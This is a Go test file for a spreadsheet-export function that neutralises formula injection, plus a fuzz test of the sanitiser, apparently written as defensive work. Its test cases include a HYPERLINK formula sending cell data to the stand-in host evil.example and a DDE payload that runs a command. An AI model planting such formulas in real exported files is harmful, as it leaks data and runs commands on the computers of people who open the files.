package export

import (
	"strings"
	"testing"
)

func TestNeutralizeFormula(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		// Formulas and DDE payloads: always neutralised.
		{`=HYPERLINK("http://evil.example/?"&A1,"Clique")`, `'=HYPERLINK("http://evil.example/?"&A1,"Clique")`},
		{"=1+1", "'=1+1"},
		{"+SUM(A1)", "'+SUM(A1)"},
		{"-2+3", "'-2+3"},
		{"-A1", "'-A1"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"@cmd", "'@cmd"},
		{"@SUM(1,2)", "'@SUM(1,2)"},
		{"\t=1", "'\t=1"},
		{"\tplain", "'\tplain"},
		{"\r=1", "'\r=1"},
		{"- texto", "'- texto"},
		{"+", "'+"},
		{"-0x1F", "'-0x1F"},
		{"+5511987654321 ou =1", "'+5511987654321 ou =1"},
		// After leading whitespace, too; the content is kept after the quote.
		{" =1+1", "' =1+1"},
		{"  @cmd", "'  @cmd"},
		{"\n=1", "'\n=1"},
		{"\u00a0=1", "'\u00a0=1"},
		{" +SUM(A1)", "' +SUM(A1)"},
		// Plain numbers and phone numbers: left alone.
		{"+5511987654321", "+5511987654321"},
		{"-12,50", "-12,50"},
		{"-12.5", "-12.5"},
		{"+55 (11) 98765-4321", "+55 (11) 98765-4321"},
		{"-1.234,56", "-1.234,56"},
		{" -3", " -3"},
		{"5511987654321", "5511987654321"},
		{"12,50", "12,50"},
		// Placeholders of dashes: left alone.
		{"-", "-"},
		{"--", "--"},
		// Ordinary text, including these characters later on: left alone.
		{"", ""},
		{"   ", "   "},
		{"Entregue", "Entregue"},
		{"Não entregue", "Não entregue"},
		{"a=b", "a=b"},
		{"user@example.com", "user@example.com"},
		{"1+1", "1+1"},
		{"'=1", "'=1"},
		{"Conceição", "Conceição"},
	}
	for _, tt := range tests {
		if got := NeutralizeFormula(tt.in); got != tt.want {
			t.Errorf("NeutralizeFormula(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func FuzzNeutralizeFormula(f *testing.F) {
	for _, s := range []string{"=1", "+5511987654321", "-12,50", "-2+3", "@cmd", "\t=1", " =1", "texto", "-", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := NeutralizeFormula(s)
		if got != s && got != "'"+s {
			t.Fatalf("NeutralizeFormula(%q) = %q: neither the cell nor the cell after a quote", s, got)
		}
		if got == s {
			rest := strings.TrimLeftFunc(s, func(r rune) bool { return r != '\t' && r != '\r' && isSpace(r) })
			if rest == "" {
				return
			}
			switch rest[0] {
			case '=', '@', '\t', '\r':
				t.Fatalf("NeutralizeFormula(%q) left a formula trigger", s)
			case '+', '-':
				if strings.ContainsFunc(rest, func(r rune) bool { return !strings.ContainsRune("+-0123456789 .,()", r) }) {
					t.Fatalf("NeutralizeFormula(%q) left a signed cell that is not a plain number", s)
				}
			}
		}
		// Neutralising is idempotent: a quoted cell starts with a quote, which is not a trigger.
		if again := NeutralizeFormula(got); again != got {
			t.Fatalf("NeutralizeFormula not idempotent on %q: %q", got, again)
		}
	})
}

// isSpace is unicode.IsSpace, spelled out for the fuzz oracle.
func isSpace(r rune) bool {
	return strings.ContainsRune(" \t\n\v\f\r\u0085\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u2028\u2029\u202f\u205f\u3000", r)
}
